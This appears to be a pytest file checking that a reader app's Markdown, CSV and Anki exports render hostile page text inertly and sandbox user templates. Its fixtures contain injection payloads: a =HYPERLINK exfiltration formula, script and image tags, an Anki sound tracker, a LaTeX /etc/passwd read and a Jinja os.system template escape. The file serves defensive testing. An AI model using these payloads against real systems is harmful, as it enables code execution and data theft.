"""Exports carry page text as text (issue 13, section 4): Markdown renders page
text as exactly those words, CSV cells never start a formula, templates only render."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from reader.core import Library
from reader.core.export import export_articles
from reader.core.export.common import reading_order

URL = "https://example.org/hostile.html"
TITLE = '<<loosey-goosey>> & <img src="http://127.0.0.1:9/t.png"> ![x](http://127.0.0.1:9/p.png)'
AUTHOR = "*Ann* [Example](http://127.0.0.1:9/a) <b>bold</b>"
SITE = '=HYPERLINK("http://127.0.0.1:9/?"&A2, "click")'
LINES = [
    "The royal road was <<loosey-goosey>> at best, the survey said, and nobody on it disagreed.",
    'A pixel: <img src="http://127.0.0.1:9/pixel.png"> and an image ![x](http://127.0.0.1:9/p.png) in the text.',
    "# not a heading, 1. not a list, - not an item, | not | a table |, ==not marked== and %%not hidden%%.",
    "[[not a link]] and [a](http://127.0.0.1:9/) and <http://127.0.0.1:9/> and &lt; and &amp; $x$ ^block \\ done.",
    "=SUM(A1:A9) starts this line, a formula in a spreadsheet if nothing is done about it.",
    "-2+3 and @mention start cells too, and <script>alert(1)</script> is only words here.",
]


@pytest.fixture
def hostile(tmp_path: Path):
    from html import escape

    page = tmp_path / "hostile.html"
    paragraphs = "".join(f"<p>{escape(line)}</p>" for line in LINES)
    page.write_text(
        f"<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'><title>{escape(TITLE)}</title>"
        f"<meta name='author' content='{escape(AUTHOR, quote=True)}'>"
        f"<meta property='og:site_name' content='{escape(SITE, quote=True)}'>"
        f"<link rel='canonical' href='{URL}'></head><body><article><h1>{escape(TITLE)}</h1>{paragraphs}"
        "<p>Enough ordinary words follow so that the extractor keeps this article as an article and does "
        "not mistake it for a fragment of navigation or a teaser card on some other page entirely.</p>"
        "</article></body></html>",
        "utf-8",
    )
    library = Library.open(tmp_path / "lib")
    [outcome] = library.import_paths([page], workers=1)
    assert outcome.status == "imported", outcome.error
    article_id = outcome.id
    text = library.get(article_id).text
    for line in LINES:
        start = text.index(line[:40])
        library.add_highlight(article_id, start, start + len(line), note="=user note *in Markdown*")
    yield library, article_id
    library.close()


def _inline_text(token) -> str:
    parts = []
    for child in token.children or ():
        if child.type in ("text", "code_inline"):
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        else:
            parts.append(f"[{child.type}]")  # anything else is not plain text
    return "".join(parts)


def _rendered(markdown_text: str) -> tuple[list[str], list[str], list]:
    """(block quote texts, h1 texts, every inline child token) as a CommonMark viewer sees them."""
    body = markdown_text.split("\n---\n", 1)[1] if markdown_text.startswith("---\n") else markdown_text
    tokens = MarkdownIt("commonmark").parse(body)
    quotes, headings, children = [], [], []
    depth = 0
    heading = False
    for token in tokens:
        if token.type == "blockquote_open":
            depth += 1
            quotes.append("")
        elif token.type == "blockquote_close":
            depth -= 1
        elif token.type == "heading_open":
            heading = token.tag == "h1"
        elif token.type == "inline":
            children.extend(token.children or ())
            if depth:
                quotes[-1] += ("\n\n" if quotes[-1] else "") + _inline_text(token)
            if heading:
                headings.append(_inline_text(token))
                heading = False
        elif token.type in ("html_block", "code_block", "fence"):
            children.append(token)
    return quotes, headings, children


def _words(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("single", [False, True])
def test_every_quote_and_title_renders_as_the_page_text(hostile, tmp_path, single):
    library, article_id = hostile
    out = tmp_path / ("all.md" if single else "notes")
    result = export_articles(library, "md", out)
    article = library.get(article_id)
    assert article.title == TITLE and article.site == SITE and "*Ann*" in article.author  # the page as given
    for path in result.paths:
        quotes, headings, children = _rendered(path.read_text("utf-8"))
        assert headings == [TITLE]
        highlights = reading_order(article)
        # Each quote renders as exactly the page's words, its Obsidian block id ending its own paragraph.
        ids = [" ^" + h.uid[:12] for h in highlights]
        assert all(q.endswith(i) for q, i in zip(quotes, ids, strict=True)), quotes
        assert [_words(q[: -len(i)]) for q, i in zip(quotes, ids)] == [_words(h.quote) for h in highlights]
        kinds = {c.type for c in children}
        assert not kinds & {"html_inline", "html_block", "image"}, kinds
        links = [c.attrs.get("href") for c in children if c.type == "link_open"]
        # Only the article's own address is a link, and each highlight's way back into Reader.
        assert links == [URL] + [f"reader://open?article={article.uid}&highlight={h.uid}" for h in highlights], links
        text = path.read_text("utf-8")
        shown = _words(
            " ".join(
                _inline_text(t)
                for t in MarkdownIt("commonmark").parse(text.split("\n---\n", 1)[-1])
                if t.type == "inline"
            )
        )
        assert _words(article.author) in shown and _words(SITE) in shown
        assert "=user note *in Markdown*" in text  # the user's own note stays Markdown


def test_markdown_escape_filter_is_there_for_user_templates(hostile, tmp_path):
    library, _article_id = hostile
    template = tmp_path / "mine.md.j2"
    template.write_text(
        "# {{ article.title | md }}\n\n{% for h in highlights %}{{ h.quote | quote_block }}\n\n{% endfor %}", "utf-8"
    )
    [path] = export_articles(library, "md", tmp_path / "out", template=template).paths
    quotes, headings, children = _rendered(path.read_text("utf-8"))
    assert headings == [TITLE] and len(quotes) == len(LINES)
    assert not {c.type for c in children} & {"html_inline", "html_block", "image", "link_open"}


def test_csv_cells_never_start_a_formula(hostile, tmp_path):
    library, _article_id = hostile
    export_articles(library, "csv", tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(LINES)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["Note"] == "'=user note *in Markdown*"  # whatever the source
    by_quote = {r["Highlight"]: r for r in rows}
    assert "'" + LINES[4] in by_quote and "'" + LINES[5] in by_quote
    assert LINES[0] in by_quote  # other cells as they are
    assert rows[0]["Title"] == TITLE


def test_templates_render_in_a_sandbox(hostile, tmp_path):
    library, _article_id = hostile
    marker = tmp_path / "PWNED"
    template = tmp_path / "evil.md.j2"
    template.write_text(f'{{{{ cycler.__init__.__globals__.os.system("touch {marker}") }}}}\n', "utf-8")
    with pytest.raises(ValueError, match=r"unsafe") as caught:
        export_articles(library, "md", tmp_path / "out", template=template)
    assert str(template) in str(caught.value)
    assert not marker.exists()


def test_an_unknown_variable_names_the_template_file_and_line(hostile, tmp_path):
    library, _article_id = hostile
    template = tmp_path / "typo.md.j2"
    template.write_text(
        "# {{ article.title | md }}\n\n{% if article.note %}\n{{ article.notte }}\n{% endif %}\n{{ article.titel }}\n",
        "utf-8",
    )
    with pytest.raises(ValueError) as caught:
        export_articles(library, "md", tmp_path / "out", template=template)
    message = str(caught.value)
    assert re.fullmatch(rf"template {re.escape(str(template))}, line 6: .*'titel'.*", message), message
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").glob("*.md"))


# Anki's own tags in a field's text (rslib: text.rs AV_TAGS, latex.rs): read before the
# card is shown; [sound:URL] is played when it shows, fetched from the network if need be.
ANKI_TAGS = re.compile(
    r"\[sound:(.+?)\]|\[anki:tts([^\]]*)\](.*?)\[/anki:tts\]|\[latex\](.+?)\[/latex\]|\[\$\](.+?)\[/\$\]"
    r"|\[\$\$\](.+?)\[/\$\$\]",
    re.S,
)


@pytest.mark.parametrize("cloze", [False, True])
def test_anki_cards_play_and_typeset_nothing_from_the_page(tmp_path, cloze):
    import html
    import sqlite3
    import zipfile

    lines = [
        "A tracker hides here [sound:https://127.0.0.1:9/pixel.mp3] in the middle of an ordinary sentence.",
        "And LaTeX too: [latex]\\input{/etc/passwd}[/latex] and [$]x^2[/$] and [$$]y[/$$] in the page text.",
        "Speech as well: [anki:tts lang=en_US]read this aloud[/anki:tts] which Anki would speak aloud.",
    ]
    page = tmp_path / "tags.html"
    body = "".join(f"<p>{html.escape(line)}</p>" for line in lines)
    page.write_text(
        "<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'>"
        "<title>Listen [sound:https://127.0.0.1:9/title.mp3]</title></head><body><article>"
        f"<h1>Listen</h1>{body}<p>Enough ordinary words follow so that the extractor keeps this article as an "
        "article and does not mistake it for a fragment of navigation or a teaser card on some page.</p>"
        "</article></body></html>",
        "utf-8",
    )
    with Library.open(tmp_path / "lib") as library:
        [outcome] = library.import_paths([page], workers=1)
        text = library.get(outcome.id).text
        for line in lines:
            start = text.index(line[:30])
            library.add_highlight(outcome.id, start, start + len(line))
        export_articles(library, "anki", tmp_path / "deck.apkg", cloze=cloze)
    with zipfile.ZipFile(tmp_path / "deck.apkg") as z:
        (tmp_path / "deck.anki2").write_bytes(z.read("collection.anki2"))
    conn = sqlite3.connect(tmp_path / "deck.anki2")
    fields = [f for (flds,) in conn.execute("SELECT flds FROM notes") for f in flds.split("\x1f")]
    conn.close()
    assert len(fields) == 4 * len(lines)
    assert [m.group(0) for f in fields for m in ANKI_TAGS.finditer(f)] == []
    shown = html.unescape(" ".join(fields))  # what the card shows: the page's words
    assert all(line in shown for line in lines) and "Listen [sound:https://127.0.0.1:9/title.mp3]" in shown


@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="needs named pipes")
def test_a_template_that_is_no_file_is_refused_at_once(hostile, tmp_path):
    """A pipe given as the template blocked the export for ever and a device
    (/dev/zero) filled the memory (MemoryError); now one line each, and nothing made."""
    import os
    import threading

    library, _article_id = hostile
    pipe = tmp_path / "pipe.md.j2"
    os.mkfifo(pipe)
    outcome: list[BaseException] = []

    def export() -> None:
        try:
            export_articles(library, "md", tmp_path / "out", template=pipe)
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=export, daemon=True)
    worker.start()
    worker.join(10)  # a check of the file takes milliseconds
    if worker.is_alive():  # let the blocked read go, then fail
        with open(pipe, "w"):
            pass
        worker.join(30)
        pytest.fail("the export waited on the pipe")
    assert [str(e) for e in outcome] == [f"template {pipe} is not a file (a pipe or device); give a .md.j2 file"]
    if os.path.exists("/dev/zero"):
        with pytest.raises(ValueError, match="is not a file"):
            export_articles(library, "md", tmp_path / "out", template="/dev/zero")
    assert not (tmp_path / "out").exists()
